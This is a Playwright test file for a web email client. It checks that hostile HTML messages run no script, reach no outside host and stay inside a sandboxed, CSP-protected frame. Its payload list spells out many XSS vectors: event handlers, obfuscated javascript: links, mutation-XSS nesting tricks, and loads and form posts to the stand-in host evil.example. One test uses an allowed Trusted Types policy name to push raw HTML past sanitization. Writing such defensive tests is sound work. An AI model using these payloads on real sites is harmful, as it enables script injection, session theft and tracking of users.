import type { Page } from "playwright/test";
import { putRows, readDatabase } from "../fixtures/database-rows.ts";
import { expect, test } from "../fixtures/returning-visitor.ts";
import { openSignedIn } from "../fixtures/session.ts";

/** No page may contact this host. Each payload tries to load something from it or to set `window.hacked`. */
const EVIL = "https://evil.example";
const HACK = "top.hacked=1,parent.hacked=1,self.hacked=1";

/** TypeScript's DOM types lack Trusted Types. `createHTML` returns a string here, because `srcdoc` is typed as one. */
interface TrustedTypesWindow {
  trustedTypes?: {
    createPolicy: (
      name: string,
      rules: { createHTML: (html: string) => string },
    ) => { createHTML: (html: string) => string };
  };
}

const payloads: readonly string[] = [
  `<script>${HACK}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<img src=x onerror="${HACK}">`,
  `<img src="${EVIL}/pixel.png" width="1" height="1">`,
  `<img srcset="${EVIL}/1x.png 1x, ${EVIL}/2x.png 2x" alt="set">`,
  `<picture><source srcset="${EVIL}/source.webp"><img src="${EVIL}/fallback.png"></picture>`,
  `<svg onload="${HACK}"><script>${HACK}</script><image href="${EVIL}/svg.png"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${HACK}"></iframe></foreignObject></svg>`,
  `<svg><animate xlink:href="#x" attributeName="href" values="javascript:${HACK}"/><a id="x"><text>go</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${HACK}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${HACK}"><mi xlink:href="javascript:${HACK}">click</mi></math>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<script>${HACK}</script>"></iframe>`,
  `<form action="${EVIL}/form"><input name="password" autofocus onfocus="${HACK}"><button>Go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<base href="${EVIL}/"><img src="relative.png"><a href="relative">relative</a>`,
  `<link rel="stylesheet" href="${EVIL}/style.css"><link rel="preload" as="image" href="${EVIL}/preload.png">`,
  `<style>@import url("${EVIL}/import.css"); body{background:url(${EVIL}/body.png)}</style><p>styled</p>`,
  `<div style="background:url('${EVIL}/inline.png');width:expression(${HACK})">inline</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>`,
  `<table background="${EVIL}/table.png"><tr><td background="${EVIL}/cell.png">cell</td></tr></table>`,
  `<a href="javascript:${HACK}">link</a>`,
  `<a href="java&#10;script:${HACK}">line break</a>`,
  `<a href=" &#1;javascript:${HACK}">control character</a>`,
  `<a href="data:text/html,<script>${HACK}</script>">data link</a>`,
  `<a href="vbscript:x" ping="${EVIL}/ping">ping</a>`,
  `<object data="${EVIL}/object.swf"></object><embed src="${EVIL}/embed.swf">`,
  `<template><img src=x onerror="${HACK}"></template><noscript><p title="</noscript><img src=x onerror='${HACK}'>"></noscript>`,
  `<video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4" autoplay onloadstart="${HACK}"></video><audio src="${EVIL}/a.mp3" autoplay>`,
  `<input type="image" src="${EVIL}/input.png"><body onload="${HACK}" background="${EVIL}/bg.png">`,
  `<details open ontoggle="${HACK}"><summary>toggle</summary></details><marquee onstart="${HACK}">m</marquee>`,
  `<p id="x" name="documentElement" onmouseover="${HACK}" tabindex=1 autofocus onfocus="${HACK}">clobber</p>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HACK}'/>">`,
  `<img src="/apps/chat/chats/get-chat?id=1"><img src="//evil.example/double.png"><img src="\\\\evil.example\\back.png">`,
  `<xmp><p title="</xmp><img src=x onerror=${HACK}>"></xmp><textarea><p title="</textarea><img src=x onerror='${HACK}'>">`,
];

/** Opening an email takes longer than checking it, so each email has five payloads. */
const emailPayloads = Array.from({ length: payloads.length / 5 }, (_, index) =>
  payloads.slice(index * 5, index * 5 + 5),
);
/** The text before a payload shows that no earlier payload has swallowed it. */
const getLeadIn = (payload: string) => `Before payload ${payloads.indexOf(payload) + 1}.`;

const FIRST_ID = 1_001;

/** Writes directly to the database, because the calls accept no such message. */
async function storePayloads(page: Page) {
  const { emails: storedEmails = [] } = await readDatabase(page, ["emails"]);
  const template = (storedEmails as { id: number }[]).find(({ id }) => id === 13);
  const rows = emailPayloads.map((contents, index) => ({
    ...template,
    id: FIRST_ID + index,
    subject: `Email ${index + 1}`,
    labels: [],
    message: contents.map((payload) => `<p>${getLeadIn(payload)}</p><div>${payload}</div>`).join(""),
  }));
  await putRows(page, { emails: rows });
}

const isHacked = (page: Page) => page.evaluate(() => "hacked" in window);
const messageFrame = (page: Page) => page.locator("main iframe");

async function openPayloads(page: Page, id: number) {
  await openSignedIn(page, "/apps/email");
  await page.locator("[data-email]").first().waitFor();
  await storePayloads(page);
  const foreignRequests: string[] = [];
  const { origin } = new URL(page.url());
  page.context().on("request", (request) => {
    const url = new URL(request.url());
    if (/^https?:$/.test(url.protocol) && url.origin !== origin) foreignRequests.push(request.url());
    if (request.resourceType() === "image" && url.pathname.startsWith("/apps/")) foreignRequests.push(request.url());
  });
  await page.goto(`/en/apps/email?email=${id}`);
  return foreignRequests;
}

test.beforeEach(({ allowConsole }) => {
  // Chromium reports handlers and base URLs that the page's policy refuses already while DOMPurify parses them.
  allowConsole(/violates the following Content Security Policy|relative\.png|sandboxed/);
  // The killed worker leaves the requests of the page without a response; the page sends them again.
  allowConsole(/ERR_FAILED \(http:\/\/127/);
});

test("hostile emails run no script, send no request and change nothing outside of their frame", async ({ page }) => {
  const dialogMessages: string[] = [];
  page.on("dialog", (dialog) => {
    dialogMessages.push(dialog.message());
    void dialog.dismiss();
  });
  // The list shows the newest id first. The key J opens the next email without loading the page again.
  const foreignRequests = await openPayloads(page, FIRST_ID + emailPayloads.length - 1);
  for (const [index, contents] of [...emailPayloads.entries()].reverse()) {
    const title = `Email ${index + 1}`;
    await expect(page.getByRole("heading", { name: title, exact: true })).toBeVisible();
    const body = messageFrame(page).contentFrame().locator("body");
    for (const payload of contents) await expect(body).toContainText(getLeadIn(payload));
    await expect(messageFrame(page)).not.toHaveAttribute("sandbox", /allow-(scripts|forms|top-navigation)/);
    // The links that are left open outside of this page.
    const links = await body
      .locator("a[href]")
      .evaluateAll((each) => each.map((link) => `${link.getAttribute("rel")} ${link.getAttribute("href")}`));
    for (const link of links) expect(link, title).toMatch(/^noopener noreferrer (https?:|mailto:|tel:)/);
    await body.locator("p").first().hover();
    const unexpectedSelector =
      "script, style, iframe, form, input, button, object, embed, svg, math, meta, base, link, template, video, audio, source, [style], [id], [onerror], [onload], [tabindex], [srcset], [background]";
    await expect(body.locator(unexpectedSelector), title).toHaveCount(0);
    const { pathname } = new URL(page.url());
    const state = { isHacked: await isHacked(page), frames: page.frames().length, pathname };
    expect(state, title).toEqual({ isHacked: false, frames: 2, pathname: "/en/apps/email" });
    await page.keyboard.press("j");
  }
  // A message with remote pictures says that they are blocked, and printing loads nothing either.
  await page.goto(`/en/apps/email?email=${FIRST_ID}`);
  await expect(page.getByText("3 pictures from other sites are blocked")).toBeVisible();
  await page.getByRole("region", { name: "Open email" }).getByRole("button", { name: "Print" }).click();
  await expect(page.locator("iframe[data-print-frame]").contentFrame().locator("article")).toContainText(
    "Before payload 4.",
  );
  expect([...foreignRequests, ...dialogMessages]).toEqual([]);
});

test("the policies of page and frame block scripts, forms and foreign pictures of unsanitized HTML", async ({
  page,
  allowConsole,
}) => {
  // The browser reports what the policy of the frame has refused.
  allowConsole(/TrustedHTML|Content Security Policy|sandboxed|ERR_|Failed to load/);
  await openSignedIn(page, "/apps/email?email=26");
  const frame = messageFrame(page);
  await expect(frame.contentFrame().locator("body")).toContainText("Hi Araya");
  const sentRequests: string[] = [];
  const addIfForeign = (url: string) => url.startsWith(EVIL) && sentRequests.push(url);
  page.on("requestfinished", (request) => addIfForeign(request.url()));
  // The browser lists refused requests too; only those that it did not refuse have left the device.
  page.on("requestfailed", (request) => request.failure()?.errorText !== "csp" && addIfForeign(request.url()));
  const error = await frame.evaluate((element: HTMLIFrameElement) => {
    try {
      element.srcdoc = "<p>A string</p>";
    } catch (error) {
      return (error as Error).name;
    }
    return "";
  });
  expect(error).toBe("TypeError");
  await frame.evaluate(
    (element: HTMLIFrameElement, html) => {
      const head = element.srcdoc.slice(0, element.srcdoc.indexOf("<body>"));
      // The page refuses strings as HTML. Its CSP allows a policy of this name for the editor; this screen has no editor.
      const { trustedTypes } = window as TrustedTypesWindow;
      const policy = trustedTypes?.createPolicy("ProseMirrorClipboard", { createHTML: (text) => text });
      const document = `${head}<body><p>Refused</p>${html}</body>`;
      element.srcdoc = policy?.createHTML(document) ?? document;
    },
    payloads.filter((payload) => !payload.includes("http-equiv")).join(""),
  );
  await expect(frame.contentFrame().locator("body")).toContainText("Refused");
  await expect(frame.contentFrame().locator("form")).toHaveCount(1);
  await page.waitForLoadState("networkidle");
  expect(await isHacked(page)).toBe(false);
  expect(sentRequests).toEqual([]);
});
